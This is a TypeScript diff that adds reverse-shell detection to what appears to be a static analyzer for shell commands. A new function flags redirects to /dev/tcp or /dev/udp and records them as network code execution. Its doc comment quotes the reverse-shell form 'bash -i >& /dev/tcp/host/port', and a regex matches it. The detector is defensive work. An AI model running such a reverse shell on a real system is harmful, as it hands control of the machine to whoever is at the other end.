@@ -67,8 +67,19 @@ export function ownText(call: Call, word: Word): boolean {
   return false;
 }
 
+/** `bash -i >& /dev/tcp/host/port`: whoever is at the other end types the commands. */
+function connected(call: Call): void {
+  for (const { target } of call.command.redirects) {
+    const host = /^\/dev\/(?:tcp|udp)\/([^/]*)/.exec(target.template)?.[1];
+    if (host === undefined) continue;
+    call.execute('network', null, host.includes(UNKNOWN) ? null : host);
+    call.walk.lost(`${call.command.name} runs code from the network`);
+  }
+}
+
 function shell(call: Call): string {
   const { operands } = call;
+  if (call.command.redirects.length > 0) connected(call);
   const glued = call.command.argv.find((word) => /^-[a-z]*c[^a-z-]*\S*\s/.test(word.template));
   if (glued) return call.runText(glued.template.replace(/^-[a-z]*?c/, ''), {});
   if (call.has('-c', '--command')) {
